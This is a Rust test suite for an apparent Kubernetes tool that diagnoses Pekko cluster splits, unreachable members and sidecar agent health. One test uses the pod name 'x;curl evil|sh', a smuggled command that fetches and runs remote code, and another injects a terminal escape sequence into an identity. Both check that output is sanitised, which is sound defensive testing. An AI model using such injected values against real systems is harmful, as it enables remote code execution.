use std::collections::BTreeMap;

use k8s_openapi::api::core::v1::Pod;
use serde_json::{Value, json};

use super::*;
use crate::core::config::ClusterPorts;
use crate::core::facts::Live;
use crate::core::facts::{Answer, FORMAT, Objects, Source};
use crate::core::report::Status;

const NOW: time::OffsetDateTime = time::macros::datetime!(2026-01-02 12:00 UTC);

fn node(number: u8) -> String {
    format!("pekko://appka@10.0.0.{number}:2552")
}

fn members(me: u8, of: &[u8]) -> Value {
    let members = of.iter().map(|n| json!({"node": node(*n), "nodeUid": "7", "roles": ["dc-default"], "status": "Up"}));
    let members: Vec<Value> = members.collect();
    json!({"leader": node(of[0]), "members": members, "oldest": node(of[0]), "oldestPerRole": {}, "selfNode": node(me),
        "unreachable": []})
}

fn agent(mode: &str) -> Value {
    json!({
        "version": "0.1.0", "mode": mode, "readiness": {"ready": true},
        "rules": {"expected": true, "families": {"ipv4": {"state": "present"}}},
        "credentials": {"chain": [{"subject": "CN=appka", "subject_alt_names": ["spiffe://c/ns/shop/sa/appka"],
            "not_after": "2026-01-03T12:00:00Z"}]},
        "connections": [{"direction": "outbound", "peer": "10.0.0.2", "identity": "spiffe://c/ns/shop/sa/appka",
            "tls": "TLS 1.3", "connections": 2}],
        "refusals": [], "plaintext_peers": [],
    })
}

fn pod(number: u8) -> Pod {
    serde_json::from_value(json!({
        "metadata": {"name": format!("appka-{number}"), "namespace": "shop", "labels": {"app": "appka"}},
        "spec": {"containers": [{"name": "app"}], "initContainers": [{"name": "bypassctl", "restartPolicy": "Always"}]},
        "status": {"phase": "Running", "podIP": format!("10.0.0.{number}"), "startTime": "2026-01-02T11:00:00Z"},
    }))
    .unwrap()
}

fn live(members: Value) -> Live {
    let ok = || Observed::Seen(Answer { status: 200, body: "OK".to_owned() });
    Live {
        members: Observed::Seen(members),
        seed_nodes: Observed::Seen(json!({"seedNodes": []})),
        ready: ok(),
        alive: ok(),
        agent: Observed::Seen(agent("strict")),
        agent_config: Observed::Unavailable("nobody asked".to_owned()),
        clock_skew_ms: Observed::Seen(12),
    }
}

/// Three pods, one cluster, all well.
fn healthy() -> Facts {
    let none = || "nobody looked".to_owned();
    let numbers = [1, 2, 3];
    Facts {
        format: FORMAT,
        version: "0.1.0".to_owned(),
        taken: NOW,
        source: Source::Cluster {
            context: "test".to_owned(),
            server_version: "v1.35.0".to_owned(),
            namespace: "shop".to_owned(),
        },
        ports: ClusterPorts::new(None, &[], &[]).unwrap(),
        objects: Objects {
            workloads: Observed::Unavailable(none()),
            unlisted: Vec::new(),
            pods: Observed::Seen(numbers.iter().map(|n| pod(*n)).collect()),
            services: Observed::Unavailable(none()),
            service_accounts: Observed::Unavailable(none()),
            roles: Observed::Unavailable(none()),
            role_bindings: Observed::Unavailable(none()),
            cluster_roles: Observed::Unavailable(none()),
            cluster_role_bindings: Observed::Unavailable(none()),
            certificates: Observed::Unavailable(none()),
            network_policies: Observed::Unavailable(none()),
            disruption_budgets: Observed::Unavailable(none()),
            namespaces: Observed::Unavailable(none()),
            nodes: Observed::Unavailable(none()),
            events: Observed::Unavailable(none()),
            config_maps: Observed::Unavailable(none()),
            others: Vec::new(),
            unreadable: Vec::new(),
        },
        live: numbers.iter().map(|n| (format!("shop/appka-{n}"), live(members(*n, &numbers)))).collect(),
        access: BTreeMap::new(),
    }
}

fn not_passed(facts: &Facts, status: Status) -> Vec<&'static str> {
    let mut codes: Vec<_> =
        run(facts).into_iter().filter(|check| check.status == status).map(|check| check.code).collect();
    codes.dedup();
    codes
}

/// What fails after a change to a healthy cluster.
fn broken(change: impl FnOnce(&mut Facts)) -> Vec<&'static str> {
    let mut facts = healthy();
    change(&mut facts);
    not_passed(&facts, Status::Fail)
}

fn of(facts: &mut Facts, number: u8) -> &mut Live {
    facts.live.get_mut(&format!("shop/appka-{number}")).unwrap()
}

fn has_just_started(facts: &mut Facts, number: u8) {
    let Observed::Seen(pods) = &mut facts.objects.pods else { unreachable!() };
    let status = pods[usize::from(number) - 1].status.as_mut().unwrap();
    status.start_time = serde_json::from_value(json!("2026-01-02T11:59:30Z")).unwrap();
}

fn view(facts: &mut Facts, number: u8) -> &mut Value {
    match &mut of(facts, number).members {
        Observed::Seen(value) => value,
        Observed::Unavailable(_) => unreachable!(),
    }
}

fn said(facts: &mut Facts, number: u8) -> &mut Value {
    match &mut of(facts, number).agent {
        Observed::Seen(value) => value,
        Observed::Unavailable(_) => unreachable!(),
    }
}

#[test]
fn a_healthy_cluster_passes_everything() {
    let facts = healthy();
    assert!(run(&facts).len() > 20);
    for status in [Status::Fail, Status::Skip, Status::Pending] {
        assert_eq!(not_passed(&facts, status), Vec::<&str>::new());
    }
}

#[test]
fn nothing_is_said_where_nobody_was_asked() {
    let mut facts = healthy();
    facts.live.clear();
    assert_eq!(run(&facts), []);
}

#[test]
fn two_clusters_are_a_split() {
    let split = broken(|facts| {
        *view(facts, 3) = members(3, &[3]);
        for n in [1, 2] {
            *view(facts, n) = members(n, &[1, 2]);
        }
    });
    assert_eq!(split, ["one-cluster"]);
}

#[test]
fn a_late_view_is_no_split() {
    // The third has joined; the first has not heard of it, and each sees another leader.
    let late = |facts: &mut Facts| {
        *view(facts, 1) = members(1, &[1, 2]);
        view(facts, 3)["leader"] = node(3).into();
    };
    assert_eq!(broken(late), ["leader-agreed"], "nobody comes or goes");
    let mut facts = healthy();
    late(&mut facts);
    has_just_started(&mut facts, 3);
    assert_eq!(not_passed(&facts, Status::Fail), Vec::<&str>::new());
    assert_eq!(not_passed(&facts, Status::Pending), ["leader-agreed"]);
    let stuck = broken(|facts| {
        late(facts);
        view(facts, 3)["unreachable"] = json!([{"node": node(1), "observedBy": [node(3)]}]);
    });
    assert_eq!(stuck, ["members-reachable", "leader-agreed"]);
}

#[test]
fn two_applications_are_two_clusters() {
    let two = broken(|facts| {
        let Observed::Seen(pods) = &mut facts.objects.pods else { unreachable!() };
        pods[2].metadata.labels.as_mut().unwrap().insert("app".to_owned(), "other".to_owned());
        *view(facts, 3) = members(3, &[3]);
        for n in [1, 2] {
            *view(facts, n) = members(n, &[1, 2]);
        }
    });
    assert_eq!(two, Vec::<&str>::new());
}

#[test]
fn unreachable_members_are_named_with_who_says_so() {
    let mut facts = healthy();
    view(&mut facts, 1)["unreachable"] = json!([{"node": node(3), "observedBy": [node(1), node(2)]}]);
    let found = run(&facts).into_iter().find(|check| check.status == Status::Fail).unwrap();
    assert_eq!(found.code, "members-reachable");
    assert!(found.message.contains("10.0.0.3:2552 (by pekko://appka@10.0.0.1:2552, pekko"), "{}", found.message);
}

#[test]
fn members_that_are_not_up_are_named() {
    assert_eq!(broken(|facts| view(facts, 1)["members"][2]["status"] = "WeaklyUp".into()), ["members-up"]);
    let mut facts = healthy();
    view(&mut facts, 1)["members"][2]["status"] = "Joining".into();
    assert_eq!(not_passed(&facts, Status::Fail), ["members-up"], "nobody comes or goes");
    has_just_started(&mut facts, 3);
    assert_eq!(not_passed(&facts, Status::Fail), Vec::<&str>::new());
    assert_eq!(not_passed(&facts, Status::Pending), ["members-up"]);
}

#[test]
fn a_pod_that_does_not_join_fails_once_it_is_old() {
    let alone = json!({"members": [], "selfNode": node(3), "unreachable": [], "oldestPerRole": {}});
    let change = |facts: &mut Facts| {
        *view(facts, 3) = alone.clone();
        for n in [1, 2] {
            *view(facts, n) = members(n, &[1, 2]);
        }
    };
    assert_eq!(broken(change), ["member-joined", "pods-are-members"]);
    let mut facts = healthy();
    change(&mut facts);
    has_just_started(&mut facts, 3);
    assert!(not_passed(&facts, Status::Pending).contains(&"member-joined"));
}

#[test]
fn a_member_without_a_pod_is_a_warning_once_it_does_not_answer() {
    let nine = |facts: &mut Facts| {
        for n in [1, 2, 3] {
            *view(facts, n) = members(n, &[1, 2, 3, 9]);
        }
    };
    assert_eq!(broken(nine), Vec::<&str>::new());
    let gone = broken(|facts| {
        nine(facts);
        view(facts, 1)["unreachable"] = json!([{"node": node(9), "observedBy": [node(1)]}]);
    });
    assert_eq!(gone, ["members-reachable", "members-are-pods"]);
}

#[test]
fn management_that_does_not_answer_is_an_error() {
    let silent = broken(|facts| of(facts, 2).members = Observed::Unavailable("connection refused".to_owned()));
    assert_eq!(silent, ["management-answers"]);
    let stranger = broken(|facts| of(facts, 2).members = Observed::Seen(json!({"hello": "world"})));
    assert_eq!(stranger, ["management-answers"]);
}

#[test]
fn a_pod_that_does_not_run_yet_is_not_blamed_for_silence() {
    let mut facts = healthy();
    let Observed::Seen(pods) = &mut facts.objects.pods else { unreachable!() };
    pods[1].status.as_mut().unwrap().phase = Some("Pending".to_owned());
    let silent = || Observed::Unavailable("the pod is Pending".to_owned());
    of(&mut facts, 2).members = silent();
    of(&mut facts, 2).agent = silent();
    assert_eq!(not_passed(&facts, Status::Fail), Vec::<&str>::new());
    assert_eq!(not_passed(&facts, Status::Skip), ["management-answers", "agent-answers"]);
}

#[test]
fn who_may_not_ask_is_told_so_and_nobody_is_blamed() {
    let mut facts = healthy();
    let forbidden = || Observed::Unavailable("forbidden to ask port 8558: by port-forward: …".to_owned());
    of(&mut facts, 2).members = forbidden();
    of(&mut facts, 2).agent = forbidden();
    assert_eq!(not_passed(&facts, Status::Fail), Vec::<&str>::new());
    assert_eq!(not_passed(&facts, Status::Skip), ["management-answers", "agent-answers"]);
}

#[test]
fn no_name_becomes_a_command() {
    let mut facts = healthy();
    let Observed::Seen(pods) = &mut facts.objects.pods else { unreachable!() };
    let key = crate::core::facts::key(&pods[1].metadata);
    pods[1].metadata.name = Some("x;curl evil|sh".to_owned());
    let mut live = facts.live.remove(&key).unwrap();
    live.members = Observed::Unavailable("connection refused".to_owned());
    facts.live.insert(crate::core::facts::key(&pods[1].metadata), live);
    let found = run(&facts).into_iter().find(|check| check.status == Status::Fail).unwrap();
    assert!(found.next.contains("kubectl logs -n shop POD") && !found.next.contains("curl"), "{}", found.next);
}

#[test]
fn what_ready_says_is_repeated() {
    let mut facts = healthy();
    of(&mut facts, 1).ready = Observed::Seen(Answer { status: 500, body: "sharding\n".to_owned() });
    let found = run(&facts).into_iter().find(|check| check.status == Status::Fail).unwrap();
    assert_eq!((found.code, &found.message[..]), ("app-ready", "/ready says 500: sharding"));
}

#[test]
fn sidecars_are_judged_by_their_word() {
    type Fault = (&'static str, fn(&mut Facts));
    let faults: [Fault; 9] = [
        ("agent-answers", |facts| of(facts, 1).agent = Observed::Unavailable("connection refused".to_owned())),
        ("agent-answers", |facts| *said(facts, 1) = json!({"status": "UP"})),
        ("agent-ready", |facts| said(facts, 1)["readiness"] = json!({"ready": false, "reasons": ["no certificate"]})),
        ("rules-effective", |facts| said(facts, 1)["rules"]["families"]["ipv4"]["state"] = "missing".into()),
        ("rules-effective", |facts| said(facts, 1)["rules"]["watch"] = json!({"faults": ["a rule was removed"]})),
        ("certificate-valid", |facts| {
            said(facts, 1)["credentials"]["chain"][0]["not_after"] = "2026-01-02T11:00:00Z".into();
        }),
        ("certificate-renewed", |facts| {
            said(facts, 1)["credentials"]["chain"][0]["not_after"] = "2026-01-02T13:00:00Z".into();
        }),
        ("clocks-agree", |facts| of(facts, 1).clock_skew_ms = Observed::Seen(-60_000)),
        ("agent-versions", |facts| said(facts, 1)["version"] = "0.2.0".into()),
    ];
    for (code, fault) in faults {
        assert_eq!(broken(fault), [code]);
    }
}

#[test]
fn refusals_count_while_they_are_new() {
    let refusal_of = |peer: &str, at: &str| {
        json!([{"at": at, "direction": "inbound", "peer": peer, "reason": "denied",
            "identity": "spiffe://c/ns/evil/sa/x\u{1b}[2J", "hint": "allow it"}])
    };
    let refusal = |at: &str| refusal_of("10.0.0.3:40000", at);
    let stranger = refusal_of("203.0.113.9:40000", "2026-01-02T11:50:00Z");
    assert_eq!(broken(|facts| said(facts, 1)["refusals"] = stranger), ["strangers-refused"]);
    let mut facts = healthy();
    said(&mut facts, 1)["refusals"] = refusal("2026-01-02T11:50:00Z");
    let found = run(&facts).into_iter().find(|check| check.status == Status::Fail).unwrap();
    assert_eq!(found.code, "peers-accepted");
    assert!(found.message.contains("inbound 10.0.0.3 (spiffe://c/ns/evil/sa/x"), "{}", found.message);
    assert!(!found.message.contains('\u{1b}'));
    assert_eq!(broken(|facts| said(facts, 1)["refusals"] = refusal("2026-01-02T10:00:00Z")), Vec::<&str>::new());
}

#[test]
fn plaintext_that_is_left_is_a_warning() {
    let plaintext =
        broken(|facts| said(facts, 1)["plaintext_peers"] = json!([{"peer": "10.0.0.3", "direction": "inbound"}]));
    assert_eq!(plaintext, ["plaintext-left"]);
    assert_eq!(broken(|facts| said(facts, 1)["connections"][0]["tls"] = Value::Null), ["plaintext-left"]);
}

#[test]
fn a_pod_without_a_sidecar_among_others_is_a_warning() {
    let without = broken(|facts| {
        let Observed::Seen(pods) = &mut facts.objects.pods else { unreachable!() };
        pods[0].spec.as_mut().unwrap().init_containers = None;
    });
    assert_eq!(without, ["agent-everywhere"]);
}
